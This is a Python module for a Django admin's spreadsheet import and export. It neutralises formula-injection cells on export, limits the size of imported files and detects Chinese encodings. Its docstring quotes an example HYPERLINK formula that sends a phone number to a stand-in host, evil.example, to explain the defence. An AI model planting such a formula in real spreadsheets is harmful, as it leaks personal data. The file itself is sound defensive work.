"""Spreadsheet files the admin writes (django-import-export): safe to open in Excel.

Every export goes through `FORMATS`. A text cell that a spreadsheet would read as a
formula (a name such as `=HYPERLINK("http://evil.example/?p="&E2,"详情")` would send
the phone number in E2 away) is written with a leading apostrophe; `restore` removes it
again when an exported file is imported back. CSV carries a BOM so Excel reads the
Chinese as UTF-8; a CSV to import may be UTF-8 (with or without the BOM) or, as Excel
and WPS save it on a Chinese Windows, GBK/GB18030 (`csv_encoding`).

An imported file is read as a stream within `limits()` (size, the xlsx archive's declared
unpacked size, rows, characters in a cell), so one file cannot make a worker grow without
bound: the first limit passed stops the reading with `Refused`, whose message names it
(an xlsx is first checked by `editorial.xlsx_check`).
"""

import codecs
import csv
import io
from dataclasses import dataclass

import tablib
from django import forms
from django.conf import settings
from import_export import forms as import_forms
from import_export import widgets
from import_export.formats import base_formats
from import_export.results import Result

from editorial import xlsx_check
from editorial.xlsx_check import megabytes

# What starts a formula in Excel, LibreOffice or WPS, and the full-width forms a
# Chinese input method types.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def neutralize(value):
    """`value`, or for text that would start a formula, the same text after a '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(text: str) -> str:
    """Undo `neutralize` on a cell read from an exported file."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _neutralized(dataset):
    for i in range(dataset.height):
        dataset[i] = [neutralize(value) for value in dataset[i]]
    return dataset


@dataclass(frozen=True)
class Limits:
    file_bytes: int
    unpacked_bytes: int  # xlsx: the sum of the archive's declared uncompressed sizes
    rows: int  # below the header
    cell_chars: int


def limits() -> Limits:
    return Limits(**settings.SPREADSHEET_IMPORT_LIMITS)


class Refused(ValueError):
    """The file passes a limit of `Limits`; the message says which, in Chinese."""


def check_file_size(size: int) -> None:
    if size > limits().file_bytes:
        raise Refused(
            f"文件太大（{megabytes(size)}）：导入的表格最大 {megabytes(limits().file_bytes)}，"
            "请拆分成几个文件分别导入。"
        )


class ImportForm(import_forms.ImportForm):
    """The admin's upload form: a file over the size limit is refused before it is read."""

    def clean_import_file(self):
        upload = self.cleaned_data["import_file"]
        try:
            check_file_size(upload.size)
        except Refused as error:
            raise forms.ValidationError(str(error)) from None
        return upload


# A sheet has at most this many rows in Excel; blank rows past it are not read.
SHEET_ROWS = 1_048_576


def _too_many_rows() -> Refused:
    return Refused(
        f"表格超过 {limits().rows} 行（不含表头）：每次最多导入 {limits().rows} 行，"
        "请拆分成几个文件分别导入。"
    )


def _long_cell(where: str) -> Refused:
    return Refused(f"{where}的内容超过每格 {limits().cell_chars} 个字的上限，请缩短后重新导入。")


def _is_blank(value) -> bool:
    return value is None or value == ""


def _dataset(header, rows, *, fill) -> tablib.Dataset:
    """A dataset of `rows` (sheet row 2 onwards, one at a time) under `header`: blank
    rows are left out, short rows filled with `fill`, and the reading stops at the first
    limit passed."""
    header = list(header)
    while header and _is_blank(header[-1]):
        header.pop()
    width = len(header)
    cell_chars = limits().cell_chars
    dataset = tablib.Dataset()
    for column, value in enumerate(header, start=1):
        if isinstance(value, str) and len(value) > cell_chars:
            raise _long_cell(f"表头第 {column} 列")
    dataset.headers = header
    for number, values in enumerate(rows, start=2):
        if all(_is_blank(value) for value in values):
            if number > SHEET_ROWS:
                raise _too_many_rows()
            continue
        if dataset.height >= limits().rows:
            raise _too_many_rows()
        values = list(values)
        if any(not _is_blank(value) for value in values[width:]):
            raise Refused(f"第 {number} 行在表头之外的列还有内容：请给这些列加上表头，或删去它们。")
        del values[width:]
        for column, value in enumerate(values, start=1):
            if isinstance(value, str) and len(value) > cell_chars:
                raise _long_cell(f"第 {number} 行第 {column} 列")
        dataset.append(values + [fill] * (width - len(values)))
    return dataset


def csv_encoding(content: bytes) -> str:
    """UTF-8 (a BOM is dropped), otherwise GB18030, the superset of GBK/GB2312 that Excel
    and WPS use for "CSV" on a Chinese Windows; checked piece by piece, so the text is
    never held twice. Bytes that are neither fail when read (UnicodeDecodeError)."""
    decoder = codecs.getincrementaldecoder("utf-8")()
    piece = 1 << 16
    try:
        for start in range(0, len(content), piece):
            decoder.decode(content[start : start + piece])
        decoder.decode(b"", final=True)
    except UnicodeDecodeError:
        return "gb18030"
    return "utf-8-sig"


class CSV(base_formats.CSV):
    CONTENT_TYPE = "text/csv; charset=utf-8"

    # The admin stores and reads the upload as bytes, so `create_dataset` picks the
    # encoding instead of the admin's single `from_encoding`.
    def is_binary(self):
        return True

    def get_read_mode(self):
        return "rb"

    def create_dataset(self, in_stream, **kwargs):
        check_file_size(len(in_stream))
        text = io.TextIOWrapper(io.BytesIO(in_stream), csv_encoding(in_stream), newline="")
        reader = csv.reader(text)
        try:
            return _dataset(next(reader, []), reader, fill="")
        except csv.Error as error:
            if "field larger than field limit" not in str(error):
                raise
            # csv's own limit, far above ours: the cell is too long either way
            raise _long_cell(f"第 {reader.line_num} 行附近有一格") from None

    def export_data(self, dataset, **kwargs):
        return "\ufeff" + super().export_data(_neutralized(dataset), **kwargs)


class XLSX(base_formats.XLSX):
    def create_dataset(self, in_stream, **kwargs):
        import openpyxl

        check_file_size(len(in_stream))
        try:
            xlsx_check.check(in_stream, unpacked_bytes=limits().unpacked_bytes)
        except xlsx_check.TooLarge as error:
            raise Refused(str(error)) from None
        book = openpyxl.load_workbook(io.BytesIO(in_stream), read_only=True, data_only=True)
        try:
            sheet = book.active
            # The declared dimensions are whatever the file says: read what is there.
            sheet.reset_dimensions()
            header = next(sheet.iter_rows(max_row=1, values_only=True), ())
            rows = sheet.iter_rows(min_row=2, max_col=max(len(header), 1), values_only=True)
            return _dataset(header, rows, fill=None)
        finally:
            book.close()

    def export_data(self, dataset, **kwargs):
        return super().export_data(_neutralized(dataset), **kwargs)


FORMATS = [XLSX, CSV]


# Shared cells and messages of every import.


class TextWidget(widgets.CharWidget):
    """Text with surrounding spaces removed (names are matched on re-import) and the
    apostrophe the export puts before formula-like text taken off again."""

    def clean(self, value, row=None, **kwargs):
        if isinstance(value, float) and value.is_integer():
            value = int(value)  # spreadsheets turn 1001 into 1001.0
        return restore(super().clean(value, row, **kwargs).strip())


class YesNoWidget(widgets.Widget):
    TRUE = {"是", "1", "true", "yes", "y", "√", "会员"}
    FALSE = {"否", "0", "false", "no", "n", "×", ""}

    def __init__(self, *, default: bool, **kwargs):
        self.default = default
        super().__init__(**kwargs)

    def clean(self, value, row=None, **kwargs):
        if value is None:
            return self.default
        if isinstance(value, bool):
            return value
        text = str(value).strip().lower()
        if text == "":
            return self.default
        if text in self.TRUE:
            return True
        if text in self.FALSE:
            return False
        raise ValueError(f"“{value}”不是有效的是/否值，请填写“是”或“否”。")

    def render(self, value, obj=None, **kwargs):
        return "是" if value else "否"


def row_problems(result: Result) -> list[str]:
    """Each failing row as one Chinese sentence: 第 N 行：字段：原因。"""
    problems = []
    for invalid in result.invalid_rows:
        for field, messages in invalid.error_dict.items():
            label = field if field != "__all__" else "整行"  # fields carry their Chinese header
            problems.append(f"第 {invalid.number} 行：{label}：{'；'.join(map(str, messages))}")
    for number, errors in result.row_errors():
        for error in errors:
            problems.append(f"第 {number} 行：{error.error}")
    return problems
